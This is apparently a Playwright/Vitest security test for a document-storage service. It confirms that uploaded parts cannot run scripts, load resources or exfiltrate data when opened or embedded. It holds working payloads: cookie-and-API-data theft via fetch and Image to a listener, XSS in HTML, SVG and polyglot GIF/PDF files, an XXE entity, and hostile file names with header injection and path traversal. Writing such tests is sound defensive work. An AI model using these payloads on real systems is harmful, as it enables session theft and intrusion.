import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { callApi, openBrowser, setUp, visit } from '../support/browser.ts'
import { aCase, aDocument } from '../support/documents/documents.ts'
import { digestOf, manifestOf } from '../support/documents/parts.ts'
import { startReverseProxy } from '../support/servers/reverse-proxy.ts'
import { startServer } from '../support/servers/server.ts'

const KEY = aCase().case_key
const server = await startServer()
const session = await setUp(server.url)
const proxy = await startReverseProxy()
proxy.forwardTo(server.url)
const browser = await openBrowser()

/** What a part that runs or loads anything would reach: another port of the host, so that the browser sends its cookies too. */
const reached: string[] = []
const listener = createServer((request, response) => {
  reached.push(`${request.url} ${request.headers.cookie === undefined ? 'without' : 'with'} a cookie`)
  response.setHeader('access-control-allow-origin', '*').end()
})
listener.listen(0, '127.0.0.1')
await once(listener, 'listening')
const away = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`
afterAll(async () => {
  listener.close()
  listener.closeAllConnections()
  await proxy.close()
  await server.stop()
})

const scriptOf = (name: string) => `
  document.title = 'ran'; try { top.ran = 1 } catch {}
  new Image().src = '${away}/${name}/script?' + encodeURIComponent(document.cookie)
  fetch('/api/v1/runs').then((answer) => answer.text()).then((text) => fetch('${away}/${name}/stolen', { method: 'POST', body: text }))`
const htmlOf = (name: string) => `<script>${scriptOf(name)}</script><img src="${away}/${name}/img">
  <link rel="stylesheet" href="${away}/${name}/css"><style>@import '${away}/${name}/import'; body { background: url(${away}/${name}/bg) }</style>
  <iframe src="${away}/${name}/frame"></iframe><object data="${away}/${name}/object"></object>
  <meta http-equiv="refresh" content="0;url=${away}/${name}/refresh">
  <form action="${away}/${name}/form" id="f"></form><img src=x onerror="document.forms.f.submit()">`
const svgOf = (
  name: string,
) => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${scriptOf(name).replaceAll('"', '&quot;')}">
  <script>//<![CDATA[
    ${scriptOf(name)}
  //]]></script><image href="${away}/${name}/image"/><use xlink:href="${away}/${name}/use#a"/>
  <style>@import '${away}/${name}/import';</style><set attributeName="onmouseover" to="alert(1)"/>
  <foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${away}/${name}/frame"></iframe></foreignObject></svg>`

/** Parts that would do something if a browser believed them, each with a claim that suits it. */
const PARTS: ReadonlyArray<readonly [name: string, text: string, claim: string]> = [
  ['svg', svgOf('svg'), 'image/svg+xml'],
  ['xml-svg', `<?xml version="1.0"?>\n<!-- a picture -->\n${svgOf('xml-svg')}`, 'text/html'],
  ['html', `<!doctype html><html><body>${htmlOf('html')}</body></html>`, 'text/html'],
  ['html-as-picture', `<!doctype html>${htmlOf('html-as-picture')}`, 'image/png'],
  [
    'xhtml',
    `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><script>//<![CDATA[
    ${scriptOf('xhtml')}
    //]]></script><img src="${away}/xhtml/img"/></body></html>`,
    'application/xhtml+xml',
  ],
  ['xslt', `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${away}/xslt/sheet"?><a/>`, 'text/xml'],
  ['xml-css', `<?xml version="1.0"?><?xml-stylesheet href="${away}/xml-css/sheet"?><a/>`, 'application/xml'],
  ['entity', `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "${away}/entity/b">]><a>&b;</a>`, 'text/xml'],
  ['gif-html', `GIF89a/*${htmlOf('gif-html')}*/=1;${scriptOf('gif-html')}`, 'text/html'],
  ['wav-html', `RIFF\u0024\u0001\u0000\u0000WAVE${htmlOf('wav-html')}`, 'text/html'],
  ['mp3-html', `ID3${htmlOf('mp3-html')}`, 'text/html'],
  ['mp4-html', `\u0000\u0000\u0000\u0018ftypisom${htmlOf('mp4-html')}`, 'text/html'],
  [
    'pdf-zip',
    `%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(${away}/pdf-zip/open)>>/AA<</O<</S/JavaScript/JS(${scriptOf('pdf-zip').replaceAll(/[()]/g, String.raw`\$&`)})>>>>>>endobj\nPK\u0003\u0004${htmlOf('pdf-zip')}`,
    'application/pdf',
  ],
  ['script', scriptOf('script'), 'text/javascript'],
  ['style', `@import '${away}/style/import'; body { background: url(${away}/style/bg) }`, 'text/css'],
]
const bytesOf = (text: string) => Buffer.from(text, 'latin1')
const pathOf = (text: string | Buffer) =>
  `/api/v1/runs/hostile/parts/${digestOf(typeof text === 'string' ? bytesOf(text) : text)}`

/** Names that are no names of files, and the ones under which a browser saves their parts. */
const NAMES: ReadonlyArray<readonly [name: string, saved: RegExp]> = [
  ['a.txt\r\nSet-Cookie: x=1\r\n\r\n<script>', /^a\.txt__Set-Cookie_ x=1_____script_$/],
  ['\u202Egnp.exe', /^_gnp\.exe$/],
  ['../../etc/passwd', /^_\.\._etc_passwd$|^_.*etc_passwd$/],
  [String.raw`..\..\windows\system32`, /^_.*windows_system32$/],
  ['"; filename="evil.html', /^_; filename=_evil\.html$/],
  ['\u00e9'.repeat(200), /^\u00e9{100,200}$/],
  ['🙂'.repeat(100), /^(?:🙂){50,100}$/u],
]

beforeAll(async () => {
  const entries = [
    ...PARTS.map(([name, text, media_type]) => ({
      ...{ bytes: bytesOf(text), role: 'output', case_key: KEY, name: `${name}.html`, media_type },
    })),
    ...NAMES.map(([name]) => ({ bytes: Buffer.from(`named ${name}`), role: 'other', case_key: KEY, name })),
  ]
  const manifest = manifestOf(entries)
  for (const bytes of [...entries.map((entry) => entry.bytes), manifest]) {
    const { status } = await fetch(`${server.url}/api/v1/parts/${digestOf(bytes)}`, {
      ...{ method: 'PUT', body: new Uint8Array(bytes) },
      headers: { authorization: `Bearer ${server.token}`, 'content-type': 'application/octet-stream' },
    })
    expect(status).toBe(200)
  }
  const document = { ...aDocument({ run_id: 'hostile', cases: [aCase()] }), evidence_manifest: digestOf(manifest) }
  expect((await callApi(server.url, server.token, 'POST', '/runs', document)).status).toBe(201)
})

/** Opens a page of our own in the origin of the service, with a session. */
const openPage = async (body: string): Promise<Page> => {
  proxy.show('/page-of-the-spec', `<!doctype html><title>embeds</title>${body}`)
  return (await visit(browser, proxy.url, '/page-of-the-spec', { session, mayComplain: true })).page
}

/** Whatever a page began has come to the listener: a later request of it has. */
const settle = async (page: Page): Promise<void> => {
  const mark = `/mark-${reached.length}`
  await page.evaluate((url) => fetch(url, { mode: 'no-cors' }), away + mark)
  await expect.poll(() => reached.some((line) => line.startsWith(mark))).toBe(true)
}
const reachedByParts = () => reached.filter((line) => !/^\/(?:mark-|control\/)/.test(line))

describe('a part that is made to attack those who read it', () => {
  it('would do so as a page: what the listener counts, it also sees', async () => {
    await openPage(`<script>${scriptOf('control')}</script>`)
    await expect.poll(() => reached.some((line) => line.startsWith('/control/stolen'))).toBe(true)
    expect(reached.some((line) => /^\/control\/\S+ with a cookie$/.test(line))).toBe(true)
  })

  it('does nothing when its address is opened', async () => {
    const page = await openPage('')
    for (const [name, text] of PARTS) {
      // A part that is saved is no page: the browser stays where it is.
      const response = await page.goto(pathOf(text)).catch((error: unknown) => {
        expect(String(error), name).toMatch(/Download is starting|ERR_ABORTED/)
        return null
      })
      if (response) expect(response.status(), name).toBe(200)
      expect(await page.title(), name).not.toBe('ran')
      await page.goto('/page-of-the-spec')
    }
    await settle(page)
    expect(reachedByParts()).toEqual([])
  })

  const WAYS: ReadonlyArray<readonly [way: string, tag: (path: string) => string]> = [
    ['iframe', (path) => `<iframe src="${path}"></iframe>`],
    ['object', (path) => `<object data="${path}"></object><object data="${path}" type="text/html"></object>`],
    ['embed', (path) => `<embed src="${path}"><embed src="${path}" type="image/svg+xml">`],
    ['img', (path) => `<img src="${path}"><picture><source srcset="${path}"><img></picture>`],
    ['video', (path) => `<video src="${path}" autoplay></video><audio src="${path}" autoplay></audio>`],
    ['script', (path) => `<script src="${path}"></script><script type="module" src="${path}"></script>`],
    ['link', (path) => `<link rel="stylesheet" href="${path}"><link rel="manifest" href="${path}">`],
    ['svg', (path) => `<svg><use href="${path}#a"/><image href="${path}"/></svg>`],
    ['worker', (path) => `<script>try { new Worker('${path}') } catch {}</script>`],
  ]
  it.each(WAYS)('does nothing in a page that shows it: %s', async (_, tag) => {
    const page = await openPage(PARTS.map(([, text]) => tag(pathOf(text))).join('\n'))
    await settle(page)
    expect(reachedByParts()).toEqual([])
    expect([await page.title(), await page.evaluate('window.ran')]).toEqual(['embeds', undefined])
  })
})

it.each(NAMES)(
  'a part named %j is saved under a name without paths, control characters or turned text',
  async (name, saved) => {
    const page = await openPage('')
    const path = pathOf(Buffer.from(`named ${name}`))
    const [download] = await Promise.all([page.waitForEvent('download'), page.goto(path).catch(() => null)])
    expect(download.suggestedFilename()).toMatch(saved)
    expect(await download.failure()).toBeNull()
  },
)
